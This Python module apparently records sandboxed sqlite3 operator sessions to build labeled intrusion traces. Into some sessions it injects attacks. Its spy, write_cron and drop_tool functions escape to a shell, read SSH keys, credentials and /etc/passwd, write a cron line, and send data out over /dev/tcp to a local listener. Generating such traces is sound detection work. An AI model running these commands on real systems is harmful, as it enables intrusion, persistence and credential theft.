"""Record a database: the sqlite3 command line and a Python ledger on one shop's database."""

from __future__ import annotations

import random
import shutil
import sqlite3
from dataclasses import dataclass
from pathlib import Path
from typing import TYPE_CHECKING

from conversation import Conversation
from listener import Listener, answer
from tracing import RecordingError, Run, Sandbox, Window, traced

from programs.dropped import compile_dropped, wait_for_report

if TYPE_CHECKING:
    from collections.abc import Callable

ATTACKS = ("cron-write", "dropped-tool", "shell-escape")

LEDGER = Path(__file__).resolve().parent.parent / "workloads" / "ledger.py"
# Without -init, sqlite3 would look for a file in the home folder that /etc/passwd gives to the user
# who records, whatever HOME says.
SQLITE = "sqlite3 -init /dev/null"

TABLES = """
CREATE TABLE product (id INTEGER PRIMARY KEY, name TEXT, price REAL, stock INTEGER);
CREATE TABLE customer (id INTEGER PRIMARY KEY, name TEXT);
CREATE TABLE sale (
    id INTEGER PRIMARY KEY, customer_id INTEGER, product_id INTEGER, amount INTEGER
);
CREATE TABLE attachment (name TEXT, content BLOB);
"""
OPERATIONS = (
    "sell",
    "deliver",
    "withdraw",
    "report",
    "reindex",
    "write_ahead",
    "back_up",
    "vacuum",
)

# Statements of an operator at work. {n} stands for a number, different each time. Each leaves no
# transaction and no attached database open, so that they can follow each other in any order.
STATEMENTS = (
    "SELECT count(*), sum(amount) FROM sale WHERE product_id > {n} % 40;",
    "SELECT name, stock FROM product ORDER BY stock LIMIT {n} % 10;",
    (
        "SELECT customer.name, product.name FROM sale JOIN customer ON customer.id = customer_id"
        " JOIN product ON product.id = product_id WHERE sale.id % 17 = {n} % 17;"
    ),
    "INSERT INTO sale (customer_id, product_id, amount) VALUES ({n} % 60, {n} % 40, 2);",
    "UPDATE product SET price = price * 1.01 WHERE id % 7 = {n} % 7;",
    "DELETE FROM sale WHERE id = {n};",
    (
        "BEGIN;\nINSERT INTO customer (name) VALUES ('customer {n}');\n"
        "UPDATE product SET stock = stock + 1;\nCOMMIT;"
    ),
    "BEGIN;\nDELETE FROM sale WHERE amount = {n} % 5;\nROLLBACK;",
    "CREATE INDEX IF NOT EXISTS sale_product ON sale (product_id);\nANALYZE;",
    "DROP INDEX IF EXISTS sale_product;",
    "PRAGMA integrity_check;",
    "PRAGMA journal_mode = WAL;",
    "PRAGMA journal_mode = DELETE;",
    "VACUUM;",
    ".tables",
    ".schema sale",
    ".mode csv\n.output reports/stock-{n}.csv\nSELECT * FROM product;\n.output stdout",
    ".import --csv imports/customers.csv imported",
    ".once reports/dump.sql\n.dump product",
    ".backup backups/shop.db",
    (
        "ATTACH 'backups/archive.db' AS archive;\n"
        "CREATE TABLE IF NOT EXISTS archive.sale AS SELECT * FROM sale WHERE id < {n};\n"
        "DETACH archive;"
    ),
    "INSERT INTO attachment VALUES ('logo', readfile('imports/logo.bin'));",
    "SELECT writefile('reports/logo-{n}.bin', content) FROM attachment LIMIT 1;",
    ".system date -u",
    ".shell ls -l reports",
)

COMMANDS = (
    f"{SQLITE} shop.db .dump > backups/dump.sql",
    f"{SQLITE} shop.db 'SELECT count(*) FROM sale;'",
    f"{SQLITE} -csv shop.db 'SELECT name, stock FROM product;' > reports/all.csv",
    f"rm -f tmp.db && {SQLITE} shop.db 'VACUUM INTO \"tmp.db\"' && mv tmp.db backups/small.db",
    "gzip -kf imports/customers.csv",
    "ls -l backups",
)


def prepare(sandbox: Sandbox, rng: random.Random) -> None:
    """Lay out the shop's folder and fill its database."""
    desk = sandbox.desk
    shutil.copy(LEDGER, desk)
    for folder in ("reports", "imports", "backups"):
        (desk / folder).mkdir()
    (desk / "imports/logo.bin").write_bytes(rng.randbytes(rng.randint(500, 20000)))
    names = "".join(f"{900 + n},imported {rng.randrange(10**6)}\n" for n in range(20))
    (desk / "imports/customers.csv").write_text("id,name\n" + names)
    shop = sqlite3.connect(desk / "shop.db")
    with shop:
        shop.executescript(TABLES)
        shop.execute(f"PRAGMA journal_mode = {rng.choice(('DELETE', 'WAL'))}")
        for number in range(60):
            shop.execute("INSERT INTO customer (name) VALUES (?)", (f"customer {number}",))
        for number in range(40):
            row = (f"product {number}", rng.uniform(1, 90), rng.randint(0, 500))
            shop.execute("INSERT INTO product (name, price, stock) VALUES (?, ?, ?)", row)
        shop.executemany(
            "INSERT INTO sale (customer_id, product_id, amount) VALUES (?, ?, ?)",
            [
                (rng.randint(1, 60), rng.randint(1, 40), rng.randint(1, 9))
                for _ in range(rng.randint(200, 900))
            ],
        )
    shop.close()


class Console:
    """The sqlite3 command line, open in the traced shell until ``close``."""

    def __init__(self, shell: Conversation) -> None:
        self._shell = shell
        # The command given with -cmd answers before the first line is read: whatever is sent
        # after that answer is read by sqlite3, and no longer by the shell.
        shell.ask(f"{SQLITE} -cmd '.print ::0' shop.db; echo ::$?")

    def tell(self, statements: str) -> str:
        said = self._shell.ask(f"{statements}\n.print ::0")
        if "rror" in said:
            raise RecordingError(f"sqlite3 refused: {statements[:300]}\n{said[:300]}")
        return said

    def close(self) -> None:
        self._shell.ask(".quit")


def ordinary(rng: random.Random, most: int) -> list[str]:
    """Different statements, with their numbers filled in."""
    chosen = rng.sample(STATEMENTS, rng.randint(2, most))
    return [statement.replace("{n}", str(rng.randint(1, 10**4))) for statement in chosen]


def console_visit(shell: Conversation, rng: random.Random) -> None:
    console = Console(shell)
    for statements in ordinary(rng, 5):
        console.tell(statements)
    console.close()


def ledger_visit(shell: Conversation, rng: random.Random) -> None:
    shell.ask("/usr/bin/python3 -I -S ledger.py shop.db; echo ::$?")
    for operation in rng.choices(OPERATIONS, weights=(5, 2, 1, 2, 1, 1, 1, 1), k=rng.randint(3, 7)):
        shell.ask(f"{operation} {rng.randrange(10**6)}")
    shell.ask("close 0")


def command_visit(shell: Conversation, rng: random.Random) -> None:
    shell.shell(rng.choice(COMMANDS))


VISITS: dict[Callable[[Conversation, random.Random], None], int] = {
    console_visit: 5,
    ledger_visit: 2,
    command_visit: 4,
}


@dataclass(frozen=True)
class Break:
    """What an intrusion has to work with; it acts within ``window``."""

    number: int
    rng: random.Random
    sandbox: Sandbox
    console: Console
    window: Window


def spy(way: Break) -> None:
    """Escape to a shell and look around."""
    spying = [
        "ls -la ../home/.ssh",
        "cat ../home/.config/credentials.env",
        "cat /etc/passwd",
        "sh -c 'pwd; ls -la ..; cat ../home/.ssh/known_hosts'",
    ]
    lines = [f".shell {spied}" for spied in ["id", *way.rng.sample(spying, 2)]]
    if way.number % 2:
        lines = [".system sh -c '" + "; ".join(("id", *way.rng.sample(spying[:3], 2))) + "'"]
    with way.window:
        said = way.console.tell("\n".join(lines))
    if "uid=" not in said:
        raise RecordingError("the shell escape ran nothing")


def write_cron(way: Break) -> None:
    """Read a secret, and leave a line that a cron daemon would run. No daemon reads it here."""
    cron = way.sandbox.root / "spool" / "cron.d"
    cron.mkdir(parents=True)
    line = "* * * * * nobody /bin/true"
    ways = (
        (
            f"ATTACH '{cron}/shop' AS cron;\nCREATE TABLE cron.job (line TEXT);\n"
            f"INSERT INTO cron.job VALUES (char(10) || '{line}' || char(10));\nDETACH cron;"
        ),
        f".output {cron}/shop\nSELECT '{line}';\n.output stdout",
        f"SELECT writefile('{cron}/shop', '{line}' || char(10));",
    )
    with way.window:
        way.console.tell(ways[way.number % len(ways)])
        said = way.console.tell("SELECT CAST(readfile('../home/.ssh/id_ed25519') AS TEXT);")
    if line not in (cron / "shop").read_text(errors="replace") or "NOT A KEY" not in said:
        raise RecordingError("the cron line was not written or the secret not read")


def drop_tool(way: Break) -> None:
    """Write out a script or a binary, and have it call home."""
    tool = way.sandbox.tmp / ".collect"
    report = way.sandbox.tmp / ".collected"
    binary = way.number % 2 == 1
    with Listener(answer(b"stay\n")) as listener:
        if binary:
            content = compile_dropped(way.sandbox)
            start = f"{tool} {report} {listener.port}"
        else:
            content = (
                f"exec 3<>/dev/tcp/127.0.0.1/{listener.port}\n"
                'echo "report: $(id -u), $(wc -c < "$HOME/.ssh/id_ed25519") bytes" >&3\n'
                "read -r answer <&3\n"
            ).encode()
            start = f"bash {tool}"
        with way.window:
            way.console.tell(f"SELECT writefile('{tool}', x'{content.hex()}');")
            way.console.tell(f".shell chmod 700 {tool}\n.shell {start}")
            listener.expect(b"report: ")
            if binary:
                wait_for_report(report)


INTRUSIONS: dict[str, Callable[[Break], None]] = {
    "shell-escape": spy,
    "cron-write": write_cron,
    "dropped-tool": drop_tool,
}


def intruded_visit(
    kind: str, number: int, sandbox: Sandbox, shell: Conversation, rng: random.Random
) -> Window:
    """A visit at the console like any other, but for what is done in the middle of it."""
    window = Window()
    console = Console(shell)
    for statements in ordinary(rng, 3):
        console.tell(statements)
    INTRUSIONS[kind](Break(number, rng, sandbox, console, window))
    for statements in ordinary(rng, 3):
        console.tell(statements)
    console.close()
    return window


def record(run: Run, sandbox: Sandbox, trace: Path) -> Window:
    """Record one run: the shell of a database operator, from its start to the end of its work."""
    rng = random.Random(f"database:{run.seed}")
    prepare(sandbox, rng)
    visits = rng.choices(list(VISITS), weights=list(VISITS.values()), k=rng.randint(1, 3))
    attack_at = rng.randrange(len(visits)) if run.attack else None
    window = Window()
    with traced(["/bin/sh"], sandbox, trace) as process:
        shell = Conversation(process)
        for number, visit in enumerate(visits):
            if run.attack and number == attack_at:
                window = intruded_visit(run.attack, run.number, sandbox, shell, rng)
            else:
                visit(shell, rng)
    return window
